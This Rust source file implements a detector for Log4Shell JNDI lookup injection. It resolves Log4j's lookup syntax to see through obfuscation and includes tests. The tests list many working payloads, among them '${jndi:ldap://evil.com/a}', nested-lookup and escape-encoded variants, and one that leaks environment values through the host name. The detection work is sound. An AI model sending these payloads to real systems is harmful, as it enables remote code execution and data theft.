//! Log4Shell-style JNDI lookup injection. Rather than matching obfuscated spellings, the value
//! is run through a small, bounded evaluator of Log4j's lookup grammar — `${prefix:key}`,
//! `${name:-default}`, nesting, `lower`/`upper`, `date:'literal'`, unknown variables resolving
//! to their default — the way Log4j would expand it, and the result is checked for a `jndi`
//! lookup with a network protocol (`ldap`, `rmi`, `dns`, `iiop`, `corba`, `nds`, `http` ...).
//! Resolving repeats while the result still holds `${` (Log4j re-substitutes resolved values),
//! so `$${::-$}{jndi:...}`-style escapes come out too.
//!
//! `${HOME}`, `${price}` and other plain variables resolve to nothing interesting and pass.
//! Information lookups (`${env:...}`, `${sys:...}`) alone are not reported; inside a JNDI
//! lookup they are named in the evidence (exfiltration through the looked-up host name).

use crate::check::Check;
use crate::finding::Finding;

/// Resolution passes (Log4j re-substitutes results).
const MAX_PASSES: usize = 4;
/// Lookup nesting depth.
const MAX_DEPTH: usize = 16;
/// Lookups resolved per value, over all passes.
const MAX_LOOKUPS: usize = 512;
/// Unclosed `${` skipped over per level before the rest is left as is.
const MAX_UNCLOSED: usize = 8;
/// Bytes of input evaluated.
const MAX_LEN: usize = 16 * 1024;

/// JNDI providers that fetch from the network.
const PROTOCOLS: [&str; 9] = [
    "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http",
];

/// Lookups that reveal environment, system or runtime data (exfiltration through DNS names).
const INFO_LOOKUPS: [&str; 15] = [
    "env",
    "sys",
    "java",
    "main",
    "ctx",
    "k8s",
    "docker",
    "spring",
    "web",
    "bundle",
    "log4j",
    "jvmrunargs",
    "sd",
    "map",
    "marker",
];

#[derive(Default)]
struct Eval {
    lookups: usize,
    jndi: Vec<String>,
    info: bool,
}

pub fn inspect(text: &str) -> Option<Finding> {
    // Every lookup needs a `$`: without one, nor a spelling of one, nothing is copied.
    if !may_spell_dollar(text) {
        return None;
    }
    let unescaped = unescape_syntax(text);
    let text = unescaped.as_str();
    if !text.contains('$') {
        return None;
    }
    let mut end = text.len().min(MAX_LEN);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    let mut ev = Eval::default();
    let mut cur = text[..end].to_string();
    for _ in 0..MAX_PASSES {
        let next = ev.resolve(&cur, 0);
        let done = next == cur || !next.contains("${");
        cur = next;
        if done {
            break;
        }
    }
    // An unclosed `${jndi:` (truncated payload) never resolves; look for it in what is left.
    let lower = cur.to_ascii_lowercase();
    if let Some(p) = lower.find("${jndi:") {
        ev.jndi.push(lower[p + 7..].chars().take(64).collect());
    }
    let obfuscated = !text.to_ascii_lowercase().contains("${jndi:");
    if let Some(key) = ev.jndi.first() {
        let proto: String = key
            .trim_start()
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect::<String>()
            .to_ascii_lowercase();
        let known = PROTOCOLS.contains(&proto.as_str());
        let score = if known { 0.95 } else { 0.8 };
        let mut why = if known {
            format!("Log4j lookup resolves to a JNDI {proto}: lookup")
        } else {
            "Log4j lookup resolves to a JNDI lookup".to_string()
        };
        if obfuscated {
            why.push_str(" (after undoing nested-lookup obfuscation)");
        }
        if ev.info {
            why.push_str(", with environment/system lookups for exfiltration");
        }
        return Some(Finding::new(Check::Jndi, score, why));
    }
    None
}

impl Eval {
    /// Expands every `${...}` in `s` once (inner lookups first).
    fn resolve(&mut self, s: &str, depth: usize) -> String {
        let b = s.as_bytes();
        let mut out = String::with_capacity(s.len());
        let mut i = 0;
        let mut copied = 0;
        let mut unclosed = 0;
        while i + 1 < b.len() {
            if b[i] == b'$' && b[i + 1] == b'{' {
                let Some(close) = matching_brace(b, i + 2) else {
                    // An unclosed `${` may still contain closed lookups; each failed scan
                    // reads to the end, so only a few are tried.
                    unclosed += 1;
                    if unclosed > MAX_UNCLOSED {
                        break;
                    }
                    i += 2;
                    continue;
                };
                out.push_str(&s[copied..i]);
                let inner = &s[i + 2..close];
                if depth >= MAX_DEPTH || self.lookups >= MAX_LOOKUPS {
                    out.push_str(&s[i..=close]);
                } else {
                    self.lookups += 1;
                    let content = self.resolve(inner, depth + 1);
                    out.push_str(&self.lookup(&content));
                }
                i = close + 1;
                copied = i;
            } else {
                i += 1;
            }
        }
        out.push_str(&s[copied..]);
        out
    }

    /// The value Log4j would give `${content}` (content already resolved).
    fn lookup(&mut self, content: &str) -> String {
        // `${name:-default}`: the attacker's variables are unset, so the default is used.
        if let Some(p) = content.find(":-") {
            let name = &content[..p];
            if let Some((prefix, _)) = name.split_once(':') {
                if INFO_LOOKUPS.contains(&prefix.trim().to_ascii_lowercase().as_str()) {
                    self.info = true;
                }
            }
            return content[p + 2..].to_string();
        }
        let Some((prefix, key)) = content.split_once(':') else {
            // A bare variable (`${hostName}`, `${HOME}`): some runtime value.
            return "x".to_string();
        };
        match prefix.trim().to_ascii_lowercase().as_str() {
            "jndi" => {
                self.jndi.push(key.to_string());
                String::new()
            }
            "lower" => key.to_lowercase(),
            "upper" => key.to_uppercase(),
            // date:'j' formats to the quoted literal.
            "date" => key.split('\'').skip(1).step_by(2).collect(),
            p if INFO_LOOKUPS.contains(&p) => {
                self.info = true;
                "x".to_string()
            }
            // Unknown prefixes are left as written (Log4j leaves unresolvable lookups alone).
            _ => format!("${{{content}}}"),
        }
    }
}

/// Whether `unescape_syntax(text)` can hold a `$`: the text holds one, or one of its escaped
/// spellings (no spelling contains a `$`, so a `$` of the text is always kept).
fn may_spell_dollar(text: &str) -> bool {
    let b = text.as_bytes();
    memchr::memchr(b'$', b).is_some()
        || memchr::memchr2_iter(b'\\', b'&', b).any(|i| {
            [&b"\\u0024"[..], b"&dollar;"].iter().any(|s| {
                b[i..]
                    .get(..s.len())
                    .is_some_and(|w| w.eq_ignore_ascii_case(s))
            })
        })
}

/// `$`, `{` and `}` written as Java/JSON `\uXXXX` escapes or named HTML entities (any case):
/// spellings that reach Log4j after an application unescapes them and that the engine's own
/// decoders do not undo in every context.
fn unescape_syntax(text: &str) -> String {
    const SPELLINGS: [(&str, &str); 6] = [
        ("\\u0024", "$"),
        ("\\u007b", "{"),
        ("\\u007d", "}"),
        ("&dollar;", "$"),
        ("&lbrace;", "{"),
        ("&rbrace;", "}"),
    ];
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    'scan: while let Some(c) = rest.chars().next() {
        if c == '\\' || c == '&' {
            for (from, to) in SPELLINGS {
                if rest.len() >= from.len()
                    && rest.is_char_boundary(from.len())
                    && rest[..from.len()].eq_ignore_ascii_case(from)
                {
                    out.push_str(to);
                    rest = &rest[from.len()..];
                    continue 'scan;
                }
            }
        }
        out.push(c);
        rest = &rest[c.len_utf8()..];
    }
    out
}

/// Index of the `}` closing a lookup whose content starts at `from`; plain braces nest too.
fn matching_brace(b: &[u8], from: usize) -> Option<usize> {
    let mut depth = 0usize;
    for (i, &c) in b.iter().enumerate().skip(from) {
        match c {
            b'{' => depth += 1,
            b'}' if depth == 0 => return Some(i),
            b'}' => depth -= 1,
            _ => {}
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flagged(s: &str) -> bool {
        inspect(s).is_some_and(|f| f.score >= 0.5)
    }

    #[test]
    fn plain_and_obfuscated_lookups() {
        for s in [
            "${jndi:ldap://evil.com/a}",
            "${jndi:rmi://10.0.0.1:1099/x}",
            "${jndi:dns://x.example}",
            "${jndi:ldaps://x/a}",
            "${jndi:iiop://x/a}",
            "${JNDI:LDAP://x/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
            "${j${k8s:k5:-ND}i:ldap://x/a}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}",
            "${j${lower:N}${upper:d}i:ldap://x}",
            "${jndi:ldap://${env:USER}.${sys:java.version}.x/a}",
            "$${::-$}{jndi:ldap://x/a}",
            "$${env:a:-${env:b:-$}{jndi:ldap://x/a}}}",
            "User-Agent: ${jndi:ldap://x/a",
            "<tag attr=\"${jndi:ldap://x/a}\"/>",
            "$\\u007Bjndi:ldap://x/a}",
            "$&LBRACE;jndi:ldap://x/a}",
        ] {
            assert!(flagged(s), "{s}");
        }
        let f = inspect("${${lower:j}ndi:ldap://x/a}").unwrap();
        assert!(f.evidence.contains("ldap") && f.evidence.contains("obfuscation"));
    }

    #[test]
    fn ordinary_variables_pass() {
        for s in [
            "${HOME}",
            "${price}",
            "Total: ${price} USD",
            "echo ${PATH:-/usr/bin}",
            "${env:HOME}",
            "costs $5",
            "jndi lookups are described in the Java docs",
            "${a}${b}${c}",
        ] {
            assert!(!flagged(s), "{s}");
        }
    }

    #[test]
    fn dollar_gate_matches_the_unescaped_text() {
        let parts = [
            "\\u0024",
            "\\U0024",
            "\\u002",
            "&dollar;",
            "&DOLLAR;",
            "&dollar",
            "&",
            "\\",
            "$",
            "{",
            "}",
            "\\u007b",
            "&lbrace;",
            "jndi:ldap://x",
            "a",
            "é",
            "\\\\u0024",
            "&&dollar;",
        ];
        let mut rng = crate::test_rng::TestRng::new(0x2545_F491_4F6C_DD1D);
        let mut dollars = 0;
        for _ in 0..40_000 {
            let t = rng.pieces(&parts, 6);
            let has = unescape_syntax(&t).contains('$');
            dollars += usize::from(has);
            assert_eq!(may_spell_dollar(&t), has, "{t:?}");
        }
        assert!(dollars > 1000, "{dollars}");
    }

    #[test]
    fn hostile_input_does_not_panic() {
        let _ = inspect(&"${".repeat(50_000));
        let _ = inspect(&format!("{}{}", "${".repeat(5_000), "}".repeat(5_000)));
        let _ = inspect(&"${a:-${b:-".repeat(2_000));
        let _ = inspect("${é:-ü}${lower:É}");
    }
}
